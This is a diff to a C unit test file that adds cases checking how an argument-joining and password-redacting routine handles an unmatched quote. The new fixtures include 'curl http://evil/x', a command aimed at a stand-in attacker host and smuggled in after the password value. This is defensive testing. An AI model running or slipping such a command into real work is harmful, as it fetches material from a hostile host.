@@ -78,6 +78,11 @@ static void test_argv_values_with_blanks(void **state)
 	check_argv("app\0--password=\0next", "app --password= next");
 	check_argv("app\0--password\0\0next", "app --password  next");
 	check_argv("app\0--password", "app --password");
+	/* an unmatched quote ends with its argument: it cannot hide the ones after it */
+	check_argv("app\0--password\0'abc\0curl\0http://evil/x",
+		   "app --password '" M " curl http://evil/x");
+	check_argv("sh\0-c\0PASSWORD='abc\0curl\0http://evil/x",
+		   "sh -c PASSWORD='" M " curl http://evil/x");
 	/* trailing NULs dropped; nothing to redact: a plain join */
 	check_argv("ls\0-l\0/tmp\0\0", "ls -l /tmp");
 	/* shell escapes and JSON strings: a backslash keeps the blank or quote in the value */
